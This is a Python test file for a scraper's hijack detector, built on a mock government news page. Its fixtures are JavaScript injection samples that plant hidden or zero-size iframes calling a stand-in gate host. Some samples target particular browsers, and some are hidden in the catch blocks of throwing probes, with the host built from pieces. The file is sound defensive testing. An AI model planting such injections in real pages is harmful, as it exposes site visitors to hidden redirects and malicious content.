"""The same act, whatever its spelling (v50 §1 B1–B5): a hidden frame or a loader a script inserts
is read by what it is — its size, hiding and host, for any visitor of a real browser — and not by
the call that made it or the browser test that gates it; a probe that throws in a browser throws in
the sandbox, so code waiting in its ``catch`` runs. Three spellings of each act besides the dev
pages' own (rc50b-002/-011: ``document["b"+"ody"]*=document``; rc50b-006/-015: ``msie``/``firefox``;
rc50b-009: ``createElement('iframe')`` + ``appendChild``), and the clean forms beside them: a frame
the page links, a visible frame, a real ``<body>`` swapped in, an old-IE polyfill from the page's
own CDN."""
from __future__ import annotations

from scraper.clean import clean_page

URL = "http://www.fxnews.gov.cn/xwzx/2024/1127/c1015a3605.html"
GATE = "http://qwpzkt.info/stats.php"

BODY = ("<p>11月26日,区政府召开安全生产工作推进会,围绕隐患排查、应急演练等议题开展研讨。</p>"
        "<p>会上,各街道负责人汇报了本季度安全生产情况,就完善风险防控体系提出意见建议。</p>"
        "<p>分管区领导在讲话中要求,要认真梳理问题清单,推动各项整改任务落到实处。</p>")


def _page(tail: str = "", links: str = "", head: str = "") -> bytes:
    return ('<!DOCTYPE html><html><head><meta charset="utf-8"><title>区政府召开安全生产工作推进会_新闻中心</title>'
            f'{head}</head><body><header><a href="/">新闻中心</a><nav><a href="/">首页</a>'
            f'<a href="/tzgg/">通知公告</a>{links}</nav></header>'
            '<article><h1>区政府召开安全生产工作推进会</h1><div class="info">发布时间：2024-11-27 来源：区应急管理局</div>'
            f'<div id="content">{BODY}</div></article>'
            f'<footer><p>主办：区政府办公室</p></footer>{tail}</body></html>').encode()


def _flags(tail: str, host: str = "qwpzkt.info", **kw) -> bool:
    a = clean_page(_page(tail=tail, **kw), url=URL)
    assert "隐患排查" in a.text
    return a.hijacked and any(host in f.evidence for f in a.findings)


# (b) the frame made element by element is the written frame

def test_a_created_zero_size_frame_inserted_before_the_first_child_is_spam():
    tail = ('<script>var f=document.createElement("iframe");f.width=0;f.height=0;f.frameBorder=0;'
            f'f.src="{GATE}";document.body.insertBefore(f,document.body.firstChild);</script>')
    assert _flags(tail)


def test_a_hidden_frame_put_by_insert_adjacent_html_is_spam():
    tail = ('<script>document.body.insertAdjacentHTML("beforeend",'
            f'"<iframe width=1 height=1 style=\\"visibility:hidden\\" src=\\"{GATE}\\"></iframe>");</script>')
    assert _flags(tail)


def test_a_frame_attached_first_and_given_its_address_after_is_spam():
    tail = ('<script>window.onload=function(){var f=document.createElement("iframe");'
            'f.style.width="1px";f.style.height="1px";f.style.position="absolute";'
            f'document.getElementsByTagName("body")[0].appendChild(f);f.src="{GATE}";}};</script>')
    assert _flags(tail)


def test_a_created_visible_frame_is_clean():
    tail = ('<script>var f=document.createElement("iframe");f.width=640;f.height=360;'
            f'f.src="{GATE}";document.body.appendChild(f);</script>')
    assert not clean_page(_page(tail=tail), url=URL).hijacked


def test_a_created_hidden_frame_to_a_host_the_page_links_is_clean():
    links = '<a href="http://www.qwpzkt.info/">合作平台</a><a href="http://qwpzkt.info/a">统计</a>'
    tail = ('<script>var f=document.createElement("iframe");f.style.display="none";'
            f'f.src="{GATE}";document.body.appendChild(f);</script>')
    assert not clean_page(_page(tail=tail, links=links), url=URL).hijacked


# (a) a gate for some real browser acts for that browser's visitors

def _frame_for(test: str) -> str:
    return (f'<script>if({test}){{var f=document.createElement("iframe");f.setAttribute("width","1");'
            f'f.setAttribute("height","1");f.setAttribute("src","{GATE}");'
            'document.body.appendChild(f);}</script>')


def test_a_frame_for_firefox_by_a_regular_expression_is_spam():
    assert _flags(_frame_for("/Firefox\\//.test(navigator.userAgent)"))


def test_a_frame_for_ie_by_app_name_is_spam():
    assert _flags(_frame_for('navigator.appName=="Microsoft Internet Explorer"'))


def test_a_frame_for_android_by_match_is_spam():
    assert _flags(_frame_for("navigator.userAgent.match(/android/i)"))


def test_an_old_ie_polyfill_from_the_pages_own_cdn_is_clean():
    head = '<script src="http://cdn.fxnews.gov.cn/js/jquery.min.js"></script>'
    tail = ('<script>if(navigator.userAgent.indexOf("MSIE")>=0){var s=document.createElement("script");'
            's.src="http://cdn.fxnews.gov.cn/js/html5shiv.js";document.head.appendChild(s);}</script>')
    assert not clean_page(_page(tail=tail, head=head), url=URL).hijacked


# (c) a probe a browser throws on throws here: the code in its catch runs

def _probe(probe: str) -> str:
    # (the address built from a variable: no reader of the text sees the host whole)
    return (f'<script>try{{{probe}}}catch(e){{var h="qwpzkt",f=document.createElement("iframe");f.width=1;'
            'f.height=1;f.src="http://"+h+".info/stats.php";document.body.appendChild(f);}</script>')


def test_a_frame_behind_document_body_plus_plus_is_spam():
    assert _flags(_probe("document.body++"))


def test_a_frame_behind_document_body_xor_assign_is_spam():
    assert _flags(_probe("document.body^=2"))


def test_a_frame_behind_a_string_body_in_pieces_is_spam():
    assert _flags(_probe('window["docu"+"ment"]["bo"+"dy"]="x"'))


def test_a_real_body_swapped_in_does_not_throw():
    tail = ('<script>try{var b=document.createElement("body");document.body=b;}catch(e){'
            f'var f=document.createElement("iframe");f.width=1;f.height=1;f.src="{GATE}";'
            'document.body.appendChild(f);}</script>')
    assert not clean_page(_page(tail=tail), url=URL).hijacked


def test_a_sandboxed_hidden_measuring_frame_is_clean():
    # a vendor's measuring frame the page restricts (LinkedIn's radar frame, dev-v48-goosego gs48-016)
    tail = ('<script>(function(d){function go(){var a=d.createElement("iframe");a.style.display="none";'
            'a.setAttribute("sandbox","allow-scripts allow-same-origin");a.src="//radar.qwpzkt.info/1/1/radar.html";'
            'if(d.body){d.body.appendChild(a);}}window.addEventListener("load",go,false);}(document));</script>')
    assert not clean_page(_page(tail=tail), url=URL).hijacked
